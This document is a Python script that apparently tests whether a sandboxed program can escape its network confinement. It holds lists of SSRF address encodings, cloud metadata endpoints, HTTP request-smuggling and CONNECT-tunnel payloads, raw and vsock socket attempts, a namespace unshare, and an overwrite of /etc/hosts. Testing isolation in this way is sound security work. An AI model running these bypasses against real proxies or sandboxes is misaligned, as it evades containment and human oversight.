"""Run as a program, inside: asks the way out for a port of this machine in all ways that might be read differently.

Prints how many tries there were, and which got through TLS or out of their namespace. Who listens at the port sees
whether it was reached.
"""

import ctypes
import socket
import ssl
import sys
from collections.abc import Callable, Iterator
from contextlib import suppress
from functools import partial
from pathlib import Path
from typing import Any

NAME, PORT = sys.argv[1:]
OTHER = "other.example.com"
ADDRESSES = (
    "127.0.0.1",
    "127.1",
    "0x7f.1",
    "0x7f000001",
    "017700000001",
    "2130706433",
    "0",
    "0.0.0.0",
    "127.0.0.1.",
    "[::1]",
    "[::ffff:127.0.0.1]",
    "[::ffff:7f00:1]",
    "[64:ff9b::7f00:1]",
    "[::127.0.0.1]",
    "[fe80::1%lo]",
    "localhost",
    "localhost.",
    "LOCALHOST",
    "ip6-localhost",
    "127.0.0.1.nip.io",
    "169.254.169.254",
    "metadata.google.internal",
    f"{NAME}@127.0.0.1",
    f"{NAME}#@127.0.0.1",
    f"{NAME}\\@127.0.0.1",
    f"{NAME}%00.127.0.0.1",
    f"{NAME}%2e127.0.0.1",
    f"{NAME}.127.0.0.1",
    f"127.0.0.1/{NAME}",
    f"127.0.0.1?{NAME}",
    f"127.0.0.1#{NAME}",
    f"{NAME}:80@127.0.0.1",
    f"{NAME}:80:127.0.0.1",
    "\xef\xbc\x91\xef\xbc\x92\xef\xbc\x97.0.0.1",
    "127\xe3\x80\x820\xe3\x80\x820\xe3\x80\x821",
    "xn--127.0.0.1",
    "*",
    "",
    OTHER,
)
OK = f"Host: {NAME}\r\n"
GET = f"GET http://{NAME}/project.git/HEAD HTTP/1.1\r\n{OK}"
POST = f"POST http://{NAME}/ HTTP/1.1\r\n{OK}"
TUNNEL = f"CONNECT {NAME}:80 HTTP/1.1\r\n{OK}\r\n"
ELSEWHERE = f"GET http://{OTHER}/ HTTP/1.1\r\nHost: {OTHER}\r\n\r\n"
THERE = f"GET http://127.0.0.1:{PORT}/ HTTP/1.1\r\nHost: 127.0.0.1:{PORT}\r\n\r\n"
REQUESTS = (
    f"{GET}\r\n{ELSEWHERE}",
    f"{GET}\r\n{THERE}",
    f"{TUNNEL}{ELSEWHERE}",
    f"{TUNNEL}{THERE}",
    f"{TUNNEL}CONNECT 127.0.0.1:{PORT} HTTP/1.1\r\nHost: 127.0.0.1:{PORT}\r\n\r\nGET / HTTP/1.0\r\n\r\n",
    f"{TUNNEL}GET / HTTP/1.1\r\nHost: {OTHER}\r\n\r\n",
    f"{POST}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{ELSEWHERE}",
    f"{POST}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n{ELSEWHERE}",
    f"{POST}Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n{ELSEWHERE}",
    f"{POST}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n{ELSEWHERE}",
    f"{POST}Content-Length: 0\r\nContent-Length: 9\r\n\r\n{ELSEWHERE}",
    f"{POST}Content-Length: +0\r\n\r\n{ELSEWHERE}",
    f"{POST}Connection: content-length\r\nContent-Length: {len(ELSEWHERE)}\r\n\r\n{ELSEWHERE}",
    f"{POST}Transfer-Encoding: chunked\r\n\r\n0\r\nHost: {OTHER}\r\n\r\n{ELSEWHERE}",
    f"{GET}Content-Length: {len(ELSEWHERE)}\r\n\r\n{ELSEWHERE}",
    f"{GET}Expect: 100-continue\r\nContent-Length: 1\r\n\r\nx{ELSEWHERE}",
    f"{GET}Upgrade: websocket\r\nConnection: Upgrade\r\n\r\n{ELSEWHERE}",
    f"{GET}Upgrade: h2c\r\nConnection: Upgrade\r\n\r\n{ELSEWHERE}",
    f"GET http://{NAME}/ HTTP/1.1\r\nHost: {OTHER}\r\n\r\n",
    f"GET http://{OTHER}/ HTTP/1.1\r\n{OK}\r\n",
    f"GET http://{NAME}:{PORT}/ HTTP/1.1\r\nHost: {NAME}:{PORT}\r\n\r\n",
    f"GET //127.0.0.1:{PORT}/ HTTP/1.1\r\n{OK}\r\n",
    f"GET gopher://127.0.0.1:{PORT}/ HTTP/1.1\r\n{OK}\r\n",
    f"GET http://unix:%2Ftmp%2Fx/ HTTP/1.1\r\n{OK}\r\n",
    f"GET http:\\\\127.0.0.1:{PORT}\\ HTTP/1.1\r\n{OK}\r\n",
    "GET http://127.0.0.1:3128/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    "\x05\x01\x00",
    "\x04\x01\x00\x50\x7f\x00\x00\x01\x00",
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
)


def said(place: tuple[str, int], data: str) -> None:
    with socket.create_connection(place, 5) as connection:
        connection.settimeout(5)
        connection.sendall(data.encode("latin-1"))
        connection.shutdown(socket.SHUT_WR)
        while connection.recv(4096):
            pass


def tls(server_name: str | None) -> bool:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with (
        socket.create_connection((NAME, 443), 5) as connection,
        context.wrap_socket(connection, server_hostname=server_name) as inner,
    ):
        return inner.version() is not None


def sent(family: int, kind: int, place: Any) -> None:
    with socket.socket(family, kind) as connection:
        connection.connect(place)
        connection.send(b"x")


def tries() -> Iterator[Callable[[], object]]:
    proxy, port = ("127.0.0.1", 3128), int(PORT)
    for address in ADDRESSES:
        place = f"{address}:443" if address == OTHER else f"{address}:{PORT}"
        yield partial(said, proxy, f"CONNECT {place} HTTP/1.1\r\nHost: {place}\r\n\r\nGET / HTTP/1.0\r\n\r\n")
        yield partial(said, proxy, f"GET http://{place}/ HTTP/1.1\r\nHost: {place}\r\n\r\n")
        yield partial(said, (NAME, 80), f"GET / HTTP/1.1\r\nHost: {address}\r\n\r\n")
    yield from (partial(said, proxy, request) for request in REQUESTS)
    for at in (("127.99.0.1", 80), ("127.0.0.1", 80), ("127.0.0.1", port)):
        yield partial(said, at, f"GET / HTTP/1.1\r\n{OK}\r\n")
    yield from (partial(tls, name) for name in (OTHER, None, "127.0.0.1", "localhost"))
    yield partial(sent, socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", port))
    yield partial(sent, socket.AF_INET, socket.SOCK_DGRAM, ("8.8.8.8", 53))
    yield partial(sent, socket.AF_INET6, socket.SOCK_STREAM, ("::1", port))
    yield partial(sent, socket.AF_UNIX, socket.SOCK_STREAM, f"\0{PORT}")
    yield partial(sent, socket.AF_INET, socket.SOCK_RAW, ("127.0.0.1", 0))
    yield partial(sent, socket.AF_PACKET, socket.SOCK_RAW, ("lo", 0))
    yield partial(sent, socket.AF_VSOCK, socket.SOCK_STREAM, (2, port))
    yield lambda: ctypes.CDLL(None).unshare(0x40000000) == 0
    yield lambda: Path("/etc/hosts").write_text(f"127.0.0.1 {OTHER}")


through, count = [], 0
for one in tries():
    count += 1
    with suppress(OSError):
        if one():
            through.append(count)
print(count, "tries", through)
